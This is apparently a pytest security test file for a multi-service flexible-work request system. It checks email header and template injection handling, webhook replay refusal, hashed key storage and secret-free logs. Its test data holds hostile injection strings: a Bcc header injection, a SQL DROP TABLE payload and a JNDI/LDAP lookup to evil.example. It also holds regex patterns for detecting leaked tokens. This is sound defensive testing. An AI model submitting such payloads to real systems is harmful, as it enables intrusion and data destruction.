"""A full end-to-end run (every service a separate process, real SMTP and webhooks: the scenarios of
Tests/EndToEnd, collected here again), plus hostile data that must reach email only as data, then:
- the logs of every service carry no secret (operator token, IdP secret, action link secret, API
  keys, webhook secrets), no token (JWTs, action links, signatures, bearer headers) and no email body;
- a webhook signature captured from the real notifier is refused by the documented receiver helper
  once it is replayed more than five minutes later.
The figures go to $FWA_SECURITY_REPORT_DIR/e2e-logs.json when that variable is set."""
import email
import email.policy
import json
import os
import pathlib
import re
import subprocess
import sys
import time
import datetime

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "Tests/EndToEnd"))
import harness as e2e  # noqa: E402  Tests/EndToEnd/harness.py: the whole system as processes, its secrets
from conftest import system, tenants, wait_until  # noqa: E402,F401  (fixtures used below)
from test_workflow import test_full_scenario  # noqa: E402,F401  (the full run, one scenario per seed tenant)

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from webhook_receiver import documented_verify  # noqa: E402

# Line breaks in a name are refused at the intake now (422; Tests/IntakeTests/FreeTextTests.swift);
# what passes must still reach email only as data. U+200D is allowed, and joins the `<` before it
# into one Character with it.
HOSTILE_NAME = "Eve Hostile Bcc: attacker@evil.example {{approve_url}} {{#request_id}}leak{{/request_id}} <b>bold</b> <\u200di>it</i>"
HOSTILE_JUSTIFICATION = "'); DROP TABLE requests;-- {{tenant_id}} ${jndi:ldap://evil.example/a}"
SUPERVISOR = "sup.hostile@example.edu"
EXPECTED_HEADERS = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "auto-submitted", "x-flexwork-request-id"}


def _messages(mail_dir, recipient, request_id):
    found = []
    for path in sorted(mail_dir.glob("*.eml")):
        raw = path.read_bytes()
        message = email.message_from_bytes(raw, policy=email.policy.default)
        if message["To"] == recipient and request_id in raw.decode(errors="replace") + str(message.get("X-Flexwork-Request-Id")):
            found.append((raw, message))
    return found


def _text(message, subtype):
    part = message.get_body(preferencelist=(subtype,))
    return part.get_content() if part else ""


def test_hostile_names_reach_email_only_as_data(system, tenants):
    api, key = system["api"], tenants["mit"]
    start = str(datetime.date.today() + datetime.timedelta(days=30))
    status, body, _ = api.call("POST", "/v1/tenants/mit/requests", {
        "employee": {"email": "eve.hostile@example.edu", "name": HOSTILE_NAME, "department": "physics",
                     "employee_class": "administrative", "exempt": True, "months_employed": 30, "last_rating": "meets_expectations"},
        "supervisor_email": SUPERVISOR, "arrangement_type": "hybrid", "remote_days_per_week": 2,
        "location": {"country": "US", "region": "MA"}, "start_date": start, "justification": HOSTILE_JUSTIFICATION,
        "attestations": {"no_regular_dependent_care": True, "free_from_distractions": True}}, token=key)
    assert status == 202, body
    request_id = body["id"]
    status, detail, _ = api.call("GET", f"/v1/tenants/mit/requests/{request_id}", token=key)
    assert detail["employee"]["name"] == HOSTILE_NAME and detail["justification"] == HOSTILE_JUSTIFICATION
    found = wait_until(lambda: _messages(system["mail"], SUPERVISOR, request_id), timeout=60, what="the supervisor's email")
    for raw, message in found:
        head = raw.split(b"\r\n\r\n", 1)[0].decode()
        names = {line.split(":", 1)[0].lower() for line in head.split("\r\n") if line and not line[0].isspace()}
        assert names <= EXPECTED_HEADERS, f"unexpected headers {names - EXPECTED_HEADERS}"
        assert "bcc" not in names and "attacker@evil.example" not in message["To"]
        assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
        text, html = _text(message, "plain"), _text(message, "html")
        links = re.findall(r"/v1/actions/[0-9a-f-]{36}\.[A-Za-z0-9_-]+", text)
        assert len(links) <= 2, f"the name's template syntax added links: {links}"
        if "Eve Hostile" in text:
            assert "{{approve_url}}" in text and "{{#request_id}}leak{{/request_id}}" in text, "template syntax in data was interpreted"
        assert "<b>bold</b>" not in html and "<\u200di>" not in html


def test_captured_webhook_signature_is_refused_when_replayed(system, tenants, monkeypatch):
    hooks = wait_until(lambda: system["hooks"] or None, timeout=60, what="a webhook delivery")
    secret = _psql(system, "SELECT secret FROM webhook_secrets WHERE tenant_id = 'mit'")
    assert re.fullmatch(r"[0-9a-f]{64}", secret)
    verify = documented_verify()
    hook = hooks[0]
    headers = {k.lower(): v for k, v in hook["headers"].items()}
    timestamp, signature = headers["x-flexwork-timestamp"], headers["x-flexwork-signature"]
    monkeypatch.setattr(time, "time", lambda: int(timestamp) + 5)
    assert verify(secret, timestamp, hook["body"], signature), "a fresh delivery must verify"
    monkeypatch.setattr(time, "time", lambda: int(timestamp) + 301)
    assert not verify(secret, timestamp, hook["body"], signature), "a replay after five minutes must be refused"


def _psql(system, sql):
    return subprocess.run(["psql", "-qAtX", "-c", sql], env=system["env"], capture_output=True, text=True, check=True).stdout.strip()


def test_database_holds_api_keys_only_as_sha256(system, tenants):
    """A dump of the whole database after the run: no API key, operator token or link secret in
    it, and each API key's SHA-256 in api_keys.secret_hash."""
    import hashlib
    dump = subprocess.run(["pg_dump", "--data-only", "--no-owner"], env=system["env"], capture_output=True, text=True, check=True).stdout
    assert "COPY public.api_keys" in dump
    for tenant, key in tenants.items():
        assert key not in dump, f"the API key of {tenant} is stored in clear"
        assert hashlib.sha256(key.encode()).hexdigest() in dump, f"the API key of {tenant} is not stored as its SHA-256"
    for name, value in {"operator token": e2e.ADMIN_TOKEN, "action link secret": e2e.LINK_SECRET}.items():
        assert value not in dump, f"the {name} is in the database"


PATTERNS = {
    "JWT": re.compile(r"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]+"),
    "action link token": re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.[A-Za-z0-9_-]{43}"),
    "API key": re.compile(r"fwa_[A-Za-z0-9_-]{40,}"),
    "bearer header": re.compile(r"[Bb]earer [A-Za-z0-9._~+/-]{8,}"),
    "webhook signature": re.compile(r"sha256=[0-9a-f]{64}"),
}


def test_logs_carry_no_secrets_tokens_or_email_bodies(system, tenants):
    """Runs last in this module: after the full scenarios and the hostile data above."""
    time.sleep(2)  # let the services log the last deliveries
    logs = {path.name: path.read_text(errors="replace") for path in sorted(system["work"].glob("*.log"))}
    assert set(logs) >= {"intake.log", "approval-router.log", "compliance-checker.log", "notifier.log"}
    everything = "\n".join(logs.values())
    secrets = {"operator token": e2e.ADMIN_TOKEN, "IdP secret": e2e.IDP_SECRET, "action link secret": e2e.LINK_SECRET}
    secrets.update({f"API key of {tenant}": key for tenant, key in tenants.items()})
    for line in _psql(system, "SELECT tenant_id || ' ' || secret FROM webhook_secrets").splitlines():
        tenant, secret = line.split(" ", 1)
        secrets[f"webhook secret of {tenant}"] = secret
    leaks = [f"{name} in the logs" for name, value in secrets.items() if value and value in everything]
    for name, pattern in PATTERNS.items():
        leaks += [f"{name} in the logs: {match[:24]}…" for match in pattern.findall(everything)[:3]]
    messages = [email.message_from_bytes(p.read_bytes(), policy=email.policy.default) for p in sorted(system["mail"].glob("*.eml"))]
    assert messages, "the run sent no email"
    body_lines = 0
    for message in messages:
        text = _text(message, "plain")
        for token in re.findall(r"/v1/actions/([0-9a-f-]{36}\.[A-Za-z0-9_-]+)", text):
            if token in everything:
                leaks.append("an action link from an email in the logs")
        if text.strip() and text.strip() in everything:
            leaks.append(f"the body of the email to {message['To']} in the logs")
        for line in (line.strip() for line in text.splitlines()):
            if len(line) >= 40 and "/v1/actions/" not in line:
                body_lines += 1
                if line in everything:
                    leaks.append(f"a line of the email to {message['To']} in the logs: {line[:40]}…")
    for personal in [HOSTILE_NAME, "Eve Hostile", HOSTILE_JUSTIFICATION, "Pat Doe", "Earlier hours align with the morning intake shift"]:
        if personal in everything:
            leaks.append(f"request content in the logs: {personal[:20]}…")
    figures = {"log_files": len(logs), "log_lines": everything.count("\n") + 1, "emails": len(messages), "email_body_lines_checked": body_lines,
               "secrets_checked": len(secrets), "token_patterns": len(PATTERNS), "leaks": len(leaks)}
    print(f"\nlog grep: {figures}")
    if os.environ.get("FWA_SECURITY_REPORT_DIR"):
        pathlib.Path(os.environ["FWA_SECURITY_REPORT_DIR"], "e2e-logs.json").write_text(json.dumps(dict(figures, details=leaks), indent=2))
    assert not leaks, "\n".join(sorted(set(leaks)))
